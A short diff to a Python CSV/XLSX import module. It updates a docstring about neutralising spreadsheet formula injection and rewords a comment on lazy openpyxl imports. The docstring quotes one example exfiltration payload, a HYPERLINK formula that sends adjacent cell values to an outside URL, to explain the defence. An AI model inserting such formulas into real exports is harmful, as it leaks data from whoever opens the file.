@@ -4,7 +4,8 @@ spreadsheets read row by row (the registry's import, SPEC section 11).
 Excel, LibreOffice and Google Sheets run a cell that begins with `=`, `+`, `-` or `@` (and, after
 a tab or carriage return, whatever follows) as a formula: a field set to
 `=HYPERLINK("https://…/?leak="&A2,"…")` would send the neighbouring cells away when an auditor
-opens the export. Every CSV and XLSX the app writes passes its text cells through here.
+opens the export. Every CSV the app writes passes its text cells through here; the XLSX exports
+write text as text cells, which a spreadsheet never runs (oversight/exports.py).
 """
 
 import csv
@@ -106,7 +107,8 @@ def _csv_rows(file: IO[bytes]) -> Iterator[tuple[int, list[str]]]:
 
 
 def _xlsx_rows(file: IO[bytes]) -> Iterator[tuple[int, list[str]]]:
-    # openpyxl is imported on use (see oversight/exports.py); read-only mode streams the rows.
+    # openpyxl is imported on use: it is large, and only XLSX files need it. Read-only mode
+    # streams the rows.
     from openpyxl import load_workbook  # noqa: PLC0415
     from openpyxl.utils.exceptions import InvalidFileException  # noqa: PLC0415
 
